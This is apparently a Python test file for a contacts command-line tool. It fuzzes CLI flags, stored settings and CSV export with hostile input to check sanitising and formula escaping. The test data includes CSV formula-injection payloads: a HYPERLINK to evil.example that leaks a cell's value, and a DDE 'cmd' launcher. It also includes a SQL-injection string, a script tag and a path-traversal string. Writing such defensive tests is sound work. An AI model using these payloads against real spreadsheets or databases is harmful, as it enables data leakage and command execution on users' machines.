"""Hostile input through every way in this branch reaches: CLI flags, settings, CSV cells."""

import csv
import io
import json
import os
import stat

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from netdesk.cli import main
from netdesk.models import Contact, Setting, close_database, get_setting, open_database, set_setting
from netdesk.services.data.safe_text import (
    FORMULA_TRIGGERS,
    csv_text,
    escape_csv_cell,
    read_csv_text,
    unescape_csv_cell,
    write_csv,
)

CONTROL = [chr(c) for c in range(32) if chr(c) not in "\t\n\r"] + ["\x7f"]
HOSTILE_TEXT = st.one_of(
    st.text(max_size=300),
    st.text(alphabet=st.sampled_from([*CONTROL, "a", " ", "é", "\u202e", "\ufeff"]), max_size=50),
    st.sampled_from(
        [
            "",
            " ",
            "\x00",
            '=HYPERLINK("http://evil.example","x")',
            "<script>alert(1)</script>",
            "Robert'); DROP TABLE contact;--",
            "../../etc/passwd",
            "A" * 200_000,
            "\u0000" * 10 + "Ana",
            "𝔄𝔫𝔞 🩺",
        ]
    ),
)
SLOW = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@SLOW
@given(name=HOSTILE_TEXT, org=HOSTILE_TEXT, notes=HOSTILE_TEXT, title=HOSTILE_TEXT)
def test_cli_add_with_hostile_flags_stores_clean_text_or_says_why(
    tmp_path_factory, capsys, name, org, notes, title
):
    path = tmp_path_factory.mktemp("flags") / "db.sqlite3"
    # --flag=VALUE: how a value starting with "-" reaches argparse as a value
    argv = ["--db", str(path), "add", f"--name={name}", f"--org={org}", f"--notes={notes}"]
    code = main([*argv, f"--title={title}"])
    out, err = capsys.readouterr()
    assert code in (0, 2), err  # never an internal error (70) or a database problem (4)
    assert "Traceback" not in err
    if code == 2:
        assert err.startswith("netdesk: ") and err.count("\n") == 1
    open_database(path)
    try:
        if code == 0:
            c = Contact.get_by_id(int(out.strip()))
            for value in (c.display_name, c.title, c.given_name, c.family_name):
                assert len(value) <= 1_000
                assert not any(ch in value for ch in CONTROL)
            assert len(c.notes or "") <= 100_000
        else:
            assert Contact.select().count() == 0  # nothing half-written
        assert Contact._meta.database.execute_sql("PRAGMA integrity_check").fetchone()[0] == "ok"
    finally:
        close_database()


def test_cli_rejects_unusable_numbers_with_one_line(db_path, capsys):
    with pytest.raises(SystemExit) as exited:
        main(["--db", str(db_path), "contacts", "--limit", "lots"])
    assert exited.value.code == 2
    err = capsys.readouterr().err
    assert err.startswith("netdesk: ") and "Traceback" not in err


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
    lambda children: (
        st.lists(children, max_size=5) | st.dictionaries(st.text(max_size=20), children, max_size=5)
    ),
    max_leaves=30,
)


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(key=st.text(min_size=1, max_size=200), value=JSON_VALUES)
def test_settings_round_trip_any_json_value(db, key, value):
    set_setting(key, value)
    assert get_setting(key) == value


@pytest.mark.parametrize(
    "stored",
    ["not json", "", "{", "\x00\xff", "[" * 100_000, "NaN-ish", '"unterminated'],
)
def test_hand_edited_setting_values_fall_back_to_the_default(db, stored):
    Setting.replace(key="caldav.url", value=stored).execute()
    assert get_setting("caldav.url", "fallback") == "fallback"
    assert main(["--db", str(db.database), "contacts"]) == 0  # the CLI still runs


FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'",
    "''",
    "plain text",
    "O'Brien",
    "-",
    "",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_csv_cells_never_start_a_formula_and_unescape_exactly(cell):
    escaped = escape_csv_cell(cell)
    assert not escaped.startswith(FORMULA_TRIGGERS)
    assert unescape_csv_cell(escaped) == cell


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.text(max_size=40), min_size=3, max_size=3), max_size=8))
def test_escaped_csv_reimports_exactly(rows):
    header = ["Name", "=Email", "Notes"]
    text = csv_text(header, rows)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS)
    back = read_csv_text(text)
    assert back[0] == header
    assert back[1:] == [[c for c in r] for r in rows]


def test_written_csv_is_user_only_utf8_and_reimports(tmp_path):
    rows = [["Zoë Müller", '=HYPERLINK("x")', "line1\nline2"], ["Ben", "@evil", "'tick"]]
    path = write_csv(tmp_path / "out.csv", ["Name", "Email", "Notes"], rows)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    text = path.read_bytes().decode("utf-8-sig")
    assert read_csv_text(text)[1:] == rows
    assert not list(tmp_path.glob(".*.tmp"))


def test_json_dump_of_settings_survives_deep_nesting(db):
    deep: list = []
    for _ in range(50):
        deep = [deep]
    set_setting("deep", deep)
    assert json.dumps(get_setting("deep")) == json.dumps(deep)


def test_cli_creates_user_only_files_even_with_a_lax_umask(tmp_path, capsys):
    old = os.umask(0o022)
    try:
        path = tmp_path / "lax" / "db.sqlite3"
        assert main(["--db", str(path), "add", "--name", "Ana Silva"]) == 0
        out = tmp_path / "copy.sqlite3"
        assert main(["--db", str(path), "backup", str(out)]) == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    for b in (path.parent / "backups").iterdir():
        assert stat.S_IMODE(b.stat().st_mode) == 0o600
    assert stat.S_IMODE((path.parent / "backups").stat().st_mode) == 0o700
